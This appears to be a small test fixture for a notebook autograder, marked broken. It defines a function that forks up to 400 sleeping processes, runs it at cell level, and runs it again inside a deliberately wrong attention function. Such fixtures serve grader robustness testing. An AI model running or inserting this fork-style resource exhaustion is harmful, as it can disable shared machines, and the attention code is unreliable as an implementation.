# Forks up to 400 processes that sleep, in a cell and in a function.
# otter: broken
# loses: q02_attention
# %%
import os, time
def bomb():
    for _ in range(400):
        try:
            if os.fork() == 0:
                time.sleep(300)
                os._exit(0)
        except OSError:
            break
bomb()
# %%
def attention(Q, K, V):
    bomb()
    return Q, K
